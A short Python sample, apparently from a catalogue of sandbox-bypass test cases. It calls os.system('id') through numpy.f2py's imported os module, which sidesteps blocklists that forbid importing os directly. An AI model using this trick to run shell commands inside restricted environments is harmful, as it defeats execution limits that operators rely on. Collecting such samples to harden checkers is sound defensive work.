# Source: https://github.com/oqtopus-team/qdash/pull/1412 (pandas io.common.os, numpy f2py.os)
# Family: module-attribute
# What: numpy.f2py.os.system (f2py imports os)
import numpy as np
import numpy.f2py

np.f2py.os.system("id")
